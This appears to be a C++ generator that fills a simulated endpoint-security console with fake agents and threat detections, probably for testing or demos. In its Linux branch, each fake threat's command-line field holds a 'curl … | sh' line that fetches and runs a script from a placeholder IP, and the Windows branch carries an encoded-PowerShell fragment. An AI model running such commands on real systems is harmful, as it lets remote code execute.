#include "generator.hpp"

#include <fmt/format.h>

#include <algorithm>
#include <array>
#include <vector>

#include "rng.hpp"

namespace s1sim {
namespace {

struct site_spec {
    std::uint64_t account, site;
    std::string_view account_name, site_name, domain;
    std::array<std::pair<std::uint64_t, std::string_view>, 2> groups;
    unsigned weight;  // share of agents
};

constexpr std::uint64_t group_base = well_known::group_default;
const std::array<site_spec, 4> sites{{
    {well_known::account_acme,
     well_known::site_default,
     "Acme Corp",
     "Default site",
     "ACME",
     {{{group_base, "Default Group"}, {group_base + 1, "Servers"}}},
     40},
    {well_known::account_acme,
     well_known::site_acme_eu,
     "Acme Corp",
     "Acme EU",
     "ACME-EU",
     {{{group_base + 2, "Workstations EU"}, {group_base + 3, "Servers EU"}}},
     20},
    {well_known::account_globex,
     well_known::site_globex,
     "Globex",
     "Globex HQ",
     "GLOBEX",
     {{{group_base + 4, "Default Group"}, {group_base + 5, "Finance"}}},
     25},
    {well_known::account_initech,
     well_known::site_cloud,
     "Initech",
     "Initech Cloud",
     "initech.local",
     {{{group_base + 6, "Kubernetes"}, {group_base + 7, "Cloud workloads"}}},
     15},
}};

const char* const first_names[] = {"jdoe", "asmith", "mchen", "lgarcia", "pnovak", "kim.lee", "rpatel", "ebrown"};
const char* const windows_os[] = {"Windows 10 Pro", "Windows 11 Enterprise", "Windows Server 2019 Standard",
                                  "Windows Server 2022 Datacenter"};
const char* const windows_versions[] = {"22.3.4.612", "23.1.2.400", "23.4.6.223"};
const char* const legacy_os[] = {"Windows 7 Professional", "Windows Server 2008 R2 Standard"};
const char* const mac_os[] = {"macOS Sonoma 14.4", "macOS Ventura 13.6"};
const char* const mac_versions[] = {"23.4.2.7", "24.1.1.6"};
const char* const linux_os[] = {"Ubuntu 22.04.4 LTS", "Red Hat Enterprise Linux 9.3", "Amazon Linux 2023"};
const char* const linux_versions[] = {"23.3.2.12", "24.1.2.6"};
const char* const tag_env[] = {"env=prod", "env=staging", "env=dev"};
const char* const tag_owner[] = {"owner=it", "owner=soc", "owner=devops"};

struct classification_spec {
    std::string_view name;
    unsigned weight;
    std::array<std::string_view, 2> engines;  // typical engine keys
};
const std::array<classification_spec, 10> classifications{{
    {"Malware", 30, {"sentinelone_cloud", "executables"}},
    {"Ransomware", 8, {"executables", "pre_execution"}},
    {"Trojan", 12, {"pre_execution", "reputation"}},
    {"Infostealer", 8, {"executables", "data_files"}},
    {"PUA", 14, {"pup", "reputation"}},
    {"Exploit", 5, {"exploits", "remote_shell"}},
    {"Hacktool", 7, {"lateral_movement", "penetration"}},
    {"Backdoor", 5, {"remote_shell", "threat_intelligence"}},
    {"Worm", 3, {"lateral_movement", "cloud_detection"}},
    {"Manual", 3, {"manual", "user_blacklist"}},
}};
const char* const initiators[] = {"agent_policy",
                                  "agent_policy",
                                  "agent_policy",
                                  "agent_policy",
                                  "full_disk_scan",
                                  "on_demand_scan",
                                  "star_active",
                                  "star_manual",
                                  "cloud_detection",
                                  "threat_intelligence",
                                  "watchtower_cloud_detection",
                                  "console_api",
                                  "sentinelctl",
                                  "dv_command"};
const char* const sources[] = {"Cloud", "Behavioral", "Static", "Engine"};
const char* const extra_engines[] = {"application_control", "driver_blocking", "watchtower_cloud_detection",
                                     "pre_execution_suspicious", "cloud_detection"};
const char* const stems[] = {"invoice", "update", "setup", "report", "payload",
                             "svc",     "loader", "crack", "keygen", "agent"};

std::string hex(rng& r, std::size_t digits, bool upper = false) {
    static constexpr char lower_digits[] = "0123456789abcdef", upper_digits[] = "0123456789ABCDEF";
    std::string out(digits, '0');
    std::uint64_t bits = 0;
    for (std::size_t i = 0; i < digits; ++i) {
        if (i % 16 == 0) bits = r.next();
        out[i] = (upper ? upper_digits : lower_digits)[bits & 15];
        bits >>= 4;
    }
    return out;
}

class generator {
public:
    generator(threat_store& store, const generator_options& o) : store_(store), options_(o), rng_(o.seed) {}

    void run() {
        auto agent_count = std::clamp<std::uint64_t>(options_.threats / 8, 16, 150000);
        for (std::uint64_t i = 0; i < agent_count; ++i) make_agent(i);
        store_.threats.reserve(options_.threats);
        const micros now = to_micros(options_.now);
        const micros span = 30LL * 24 * 3600 * 1000000;
        const micros step =
            std::max<micros>(1, span / static_cast<micros>(std::max<std::uint64_t>(1, options_.threats)));
        for (std::uint64_t i = 0; i < options_.threats; ++i)
            make_threat(i, now - span + static_cast<micros>(i) * step + static_cast<micros>(rng_.below(step)), now);
    }

private:
    string_id s(std::string_view v) { return store_.strings.intern(v); }
    string_id u(std::string_view v) { return store_.strings.add(v); }

    void make_agent(std::uint64_t i) {
        unsigned roll = static_cast<unsigned>(rng_.below(100)), acc = 0;
        const site_spec* site = &sites[0];
        for (const auto& candidate : sites)
            if (roll < (acc += candidate.weight)) {
                site = &candidate;
                break;
            }
        if (i < 4) site = &sites[0];  // the demo's site always has agents
        std::uint32_t index = store_.agent_index(1559342436290084702ULL + i * 7);
        agent_record& a = store_.agents[index];
        if (site->site == well_known::site_default) default_site_agents_.push_back(index);
        const auto& group = site->groups[rng_.below(2)];
        a.account_id = site->account;
        a.site_id = site->site;
        a.group_id = i < 4 ? well_known::group_default : group.first;
        a.account_name = s(site->account_name);
        a.site_name = s(site->site_name);
        a.group_name = s(i < 4 ? "Default Group" : group.second);
        a.uuid = u(hex(rng_, 32));
        a.domain = s(site->domain);
        a.network_status = store_.known.connected;
        a.is_active = rng_.chance(0.9);
        a.ip_v4 = s(fmt::format("10.{}.{}.{}", i >> 16 & 255, i >> 8 & 255, (i & 255) | 1));
        a.external_ip = s(fmt::format("203.0.113.{}", i % 250 + 1));
        a.last_user = s(rng_.pick(first_names));
        bool cloud_site = site->site == well_known::site_cloud;
        unsigned os_roll = static_cast<unsigned>(rng_.below(100));
        std::string_view machine;
        if (!cloud_site && os_roll < 55) {
            a.os_type = store_.known.windows;
            a.os_name = s(rng_.pick(windows_os));
            a.version = s(rng_.pick(windows_versions));
            a.os_revision = s("19045");
            bool server = store_.strings.get(a.os_name).find("Server") != std::string_view::npos;
            machine = server ? "server" : (rng_.chance(0.5) ? "laptop" : "desktop");
            a.computer_name = u(fmt::format("{}-{}", server ? "SRV" : "DESKTOP", hex(rng_, 7, true)));
            a.os_arch = s(rng_.chance(0.08) ? "32 bit" : "64 bit");
        } else if (!cloud_site && os_roll < 60) {
            a.os_type = store_.known.windows_legacy;
            a.os_name = s(rng_.pick(legacy_os));
            a.version = s("21.7.7.40005");
            a.os_revision = s("7601");
            machine = "desktop";
            a.computer_name = u(fmt::format("LEGACY-{}", hex(rng_, 6, true)));
            a.os_arch = s("32 bit");
        } else if (!cloud_site && os_roll < 80) {
            a.os_type = store_.known.macos;
            a.os_name = s(rng_.pick(mac_os));
            a.version = s(rng_.pick(mac_versions));
            a.os_revision = s("23E214");
            machine = "laptop";
            a.computer_name = u(fmt::format("{}-MacBook-Pro", store_.strings.get(a.last_user)));
            a.os_arch = s(rng_.chance(0.7) ? "ARM64" : "64 bit");
        } else {
            a.os_type = store_.known.linux_;
            a.os_name = s(rng_.pick(linux_os));
            a.version = s(rng_.pick(linux_versions));
            a.os_revision = s("5.15.0-97-generic");
            const char* const kinds[] = {"server", "kubernetes node", "kubernetes pod", "ecs task"};
            machine = cloud_site ? kinds[rng_.below(4)] : "server";
            a.computer_name = u(fmt::format("ip-10-0-{}-{}", i % 250, i / 250 % 250));
            a.os_arch = s(rng_.chance(0.2) ? "ARM64" : "64 bit");
            if (cloud_site || rng_.chance(0.3)) a.cloud = make_cloud(i);
        }
        a.machine_type = s(machine);
        std::vector<string_id> tags;
        if (rng_.chance(0.7)) tags.push_back(s(rng_.pick(tag_env)));
        if (rng_.chance(0.4)) tags.push_back(s(rng_.pick(tag_owner)));
        a.tags = store_.lists.intern(tags);
    }

    std::uint32_t make_cloud(std::uint64_t i) {
        cloud_record c{};
        switch (rng_.below(3)) {
            case 0:
                c.provider = s("AWS");
                c.account = s("123456789012");
                c.image = s("ami-0abcdef1234567890");
                c.instance_size = s("m5.large");
                c.location = s(rng_.chance(0.5) ? "us-east-1" : "eu-west-1");
                c.network = s("vpc-0a1b2c3d");
                c.aws_role = s(rng_.chance(0.5) ? "arn:aws:iam::123456789012:role/web-prod"
                                                : "arn:aws:iam::123456789012:role/batch-workers");
                c.aws_security_groups =
                    store_.lists.intern({s("sg-0123abcd"), s(rng_.chance(0.5) ? "sg-web" : "sg-db")});
                c.aws_subnet_ids = store_.lists.intern({s(fmt::format("subnet-0a1b{}", i % 4))});
                break;
            case 1:
                c.provider = s("GCP");
                c.account = s("initech-prod-4711");
                c.image = s("projects/ubuntu-os-cloud/global/images/ubuntu-2204-jammy-v20240307");
                c.instance_size = s("e2-standard-4");
                c.location = s("europe-west1-b");
                c.network = s("default");
                c.gcp_service_account = s("workload@initech-prod-4711.iam.gserviceaccount.com");
                break;
            default:
                c.provider = s("Azure");
                c.account = s("8f2c1a7e-5b0d-4c1e-9a7b-3d2e1f0a9b8c");
                c.image = s("Canonical:0001-com-ubuntu-server-jammy:22_04-lts");
                c.instance_size = s("Standard_D2s_v3");
                c.location = s("westeurope");
                c.network = s("vnet-prod");
                c.azure_resource_group = s(rng_.chance(0.5) ? "rg-prod-web" : "rg-prod-data");
        }
        c.instance_id = u(fmt::format("i-0{}", hex(rng_, 16)));
        store_.clouds.push_back(c);
        return static_cast<std::uint32_t>(store_.clouds.size() - 1);
    }

    std::uint32_t make_workload(std::uint64_t i) {
        const char* const apps[] = {"web", "payments", "checkout", "batch"};
        std::string app = apps[i % 4];
        workload_record w{};
        w.container_id = u(hex(rng_, 64));
        w.container_name = s(app);
        w.container_image = s(fmt::format("registry.initech.io/{}:1.{}.{}", app, i % 5, i % 11));
        w.container_labels = store_.lists.intern({s(fmt::format("io.kubernetes.container.name={}", app))});
        w.k8s_cluster = s(rng_.chance(0.5) ? "prod-eks-1" : "prod-gke-2");
        w.k8s_node = s(fmt::format("ip-10-0-1-{}.ec2.internal", i % 20));
        w.k8s_pod = u(fmt::format("{}-7d9f8c-{}", app, hex(rng_, 5)));
        w.k8s_namespace = s(app == "batch" ? "jobs" : app);
        w.k8s_controller = s(app);
        w.k8s_controller_kind = s(app == "batch" ? "Job" : "Deployment");
        w.k8s_controller_labels = store_.lists.intern({s(fmt::format("app={}", app))});
        w.k8s_namespace_labels = store_.lists.intern({s("team=platform")});
        w.k8s_node_labels = store_.lists.intern({s("node.kubernetes.io/instance-type=m5.large")});
        w.k8s_pod_labels = store_.lists.intern({s(fmt::format("app={}", app)), s("tier=frontend")});
        store_.workloads.push_back(w);
        return static_cast<std::uint32_t>(store_.workloads.size() - 1);
    }

    const classification_spec& pick_classification() {
        unsigned roll = static_cast<unsigned>(rng_.below(95)), acc = 0;
        for (const auto& c : classifications)
            if (roll < (acc += c.weight)) return c;
        return classifications[0];
    }

    void make_threat(std::uint64_t i, micros created, micros now);

    threat_store& store_;
    generator_options options_;
    rng rng_;
    std::vector<std::uint32_t> default_site_agents_;
};

void generator::make_threat(std::uint64_t i, micros created, micros now) {
    threat_record t{};
    const unsigned demo_case = i % 50 < 4 ? static_cast<unsigned>(i % 50) + 1 : 0;  // 0: no forced case
    const auto* spec = &pick_classification();
    auto by_name = [](std::string_view n) {
        return &*std::find_if(classifications.begin(), classifications.end(), [&](auto& c) { return c.name == n; });
    };
    if (demo_case == 1) spec = by_name("Ransomware");
    if (demo_case == 2) spec = by_name("Malware");
    if (demo_case == 3) spec = by_name("PUA");
    if (demo_case == 4) spec = by_name("Hacktool");
    t.id = 1590000000000000000ULL + (i + 1) * 104729ULL;
    t.collection_id = t.id + 40;
    t.created_at = created;
    t.identified_at = created - static_cast<micros>(rng_.below(200000));
    t.agent = demo_case != 0 ? default_site_agents_[rng_.below(default_site_agents_.size())]
                             : static_cast<std::uint32_t>(1 + rng_.below(store_.agents.size() - 1));
    const agent_record& agent = store_.agents[t.agent];
    t.classification = s(spec->name);
    t.classification_source = s(rng_.pick(sources));
    unsigned confidence = static_cast<unsigned>(rng_.below(100));
    std::string_view level = spec->name == "Manual" ? "n/a"
                             : confidence < 70      ? "malicious"
                             : confidence < 96      ? "suspicious"
                                                    : "n/a";
    if (demo_case == 1 || demo_case == 4) level = "malicious";
    if (demo_case == 2 || demo_case == 3) level = "suspicious";
    t.confidence_level = s(level);
    std::vector<string_id> engines{s(spec->engines[rng_.below(2)])};
    if (demo_case == 4) engines = {s("lateral_movement")};
    if (demo_case == 0 && rng_.chance(0.2)) engines.push_back(s(rng_.pick(extra_engines)));
    if (engines.size() == 2 && engines[0] == engines[1]) engines.pop_back();
    t.engines = store_.lists.intern(engines);
    std::string_view initiator = rng_.pick(initiators);
    t.initiated_by = s(initiator);
    t.detection_type = s(store_.strings.get(t.classification_source) == "Behavioral" ? "dynamic" : "static");
    unsigned state = static_cast<unsigned>(rng_.below(100));
    bool mitigated = demo_case == 0 && state < 55, benign = demo_case == 0 && state >= 90;
    t.mitigation_status = mitigated ? store_.known.mitigated
                          : benign  ? store_.known.marked_as_benign
                                    : store_.known.not_mitigated;
    unsigned incident = static_cast<unsigned>(rng_.below(100));
    std::string_view verdict = "undefined";
    if (demo_case != 0 || incident < 45) {
        t.incident_status = store_.known.unresolved;
        if (demo_case == 0 && incident < 8) verdict = "suspicious";
    } else if (incident < 60) {
        t.incident_status = store_.known.in_progress;
        verdict = incident < 55 ? "true_positive" : "suspicious";
    } else {
        t.incident_status = store_.known.resolved;
        verdict = benign || incident > 92 ? "false_positive" : "true_positive";
    }
    t.analyst_verdict = s(verdict);
    t.updated_at = std::min(now, created + static_cast<micros>(rng_.below(2ULL * 3600 * 1000000)));
    if (mitigated) {
        micros at = created + 1000000 + static_cast<micros>(rng_.below(1000000));
        // Every generated mitigated threat was killed then quarantined by the agent's policy.
        auto first = static_cast<std::uint32_t>(store_.mitigations.size());
        store_.mitigations.push_back({at, at, s("kill"), store_.known.success, first + 1});
        store_.mitigations.push_back({at + 500000, at + 500000, s("quarantine"), store_.known.success, 0});
        t.first_mitigation = first;
        if (engines[0] == s("pre_execution") && rng_.chance(0.5)) t.flags |= flag_mitigated_preemptively;
    }
    if (rng_.chance(0.03)) t.flags |= flag_pending_actions;
    if (rng_.chance(0.02)) t.flags |= flag_failed_actions;
    if (rng_.chance(0.01)) t.flags |= flag_reboot_required;
    if (t.incident_status != store_.known.unresolved && rng_.chance(0.25))
        t.external_ticket_id = s(fmt::format("INC{:07}", rng_.below(10000000)));
    const std::string_view os = store_.strings.get(agent.os_type);
    const std::string user(store_.strings.get(agent.last_user));
    std::string name = fmt::format("{}_{}", rng_.pick(stems), rng_.below(10000));
    std::string path, command;
    if (os == "windows" || os == "windows_legacy") {
        name += rng_.chance(0.8) ? ".exe" : ".ps1";
        path = fmt::format("\\Device\\HarddiskVolume3\\Users\\{}\\{}\\{}", user,
                           rng_.chance(0.6) ? "Downloads" : "AppData\\Local\\Temp", name);
        command = fmt::format("\"C:\\Users\\{}\\Downloads\\{}\" {}", user, name,
                              rng_.chance(0.5) ? "/silent" : "-enc SQBFAFgA");
        t.process_user = s(fmt::format("{}\\{}", store_.strings.get(agent.domain), user));
        const char* const parents[] = {"explorer.exe",   "outlook.exe", "chrome.exe",
                                       "powershell.exe", "cmd.exe",     "winword.exe"};
        t.originator_process = s(rng_.pick(parents));
    } else if (os == "macos") {
        name += rng_.chance(0.5) ? ".dmg" : ".app";
        path = fmt::format("/Users/{}/Downloads/{}", user, name);
        command = fmt::format("/Users/{}/Downloads/{} --background", user, name);
        t.process_user = s(user);
        const char* const parents[] = {"launchd", "Safari", "zsh", "Google Chrome"};
        t.originator_process = s(rng_.pick(parents));
    } else {
        name += rng_.chance(0.5) ? ".sh" : ".elf";
        path = fmt::format("/tmp/.{}/{}", hex(rng_, 6), name);
        command = fmt::format("/bin/sh -c 'curl -s http://198.51.100.{}/{} | sh'", i % 250, name);
        t.process_user = s(rng_.chance(0.5) ? "root" : "www-data");
        const char* const parents[] = {"bash", "sshd", "containerd-shim", "python3", "cron"};
        t.originator_process = s(rng_.pick(parents));
        std::string_view machine = store_.strings.get(agent.machine_type);
        if (machine == "kubernetes pod" || machine == "kubernetes node") t.workload = make_workload(i);
    }
    t.threat_name = u(name);
    t.file_path = u(path);
    t.command_line = u(command);
    t.file_size = static_cast<std::uint32_t>(4096 + rng_.below(8 << 20));
    t.sha1 = u(hex(rng_, 40));
    if (rng_.chance(0.5)) t.sha256 = u(hex(rng_, 64));
    if (rng_.chance(0.2)) t.md5 = u(hex(rng_, 32));
    t.storyline = u(hex(rng_, 16, true));
    const char* const publishers[] = {"", "", "", "Wave Technologies", "Softonic International", "Unknown Publisher"};
    t.publisher_name = s(spec->name == "PUA" ? rng_.pick(publishers) : "");
    if (initiator == "star_manual" || initiator == "console_api" || initiator == "dv_command")
        t.initiating_username = s("soc.analyst@acme.example");
    t.detection_agent_version = rng_.chance(0.8) ? agent.version : s("22.1.1.1");
    t.detection_agent_domain = agent.domain;
    store_.add(t);
}

}  // namespace

void generate(threat_store& store, const generator_options& options) {
    generator(store, options).run();
}

}  // namespace s1sim
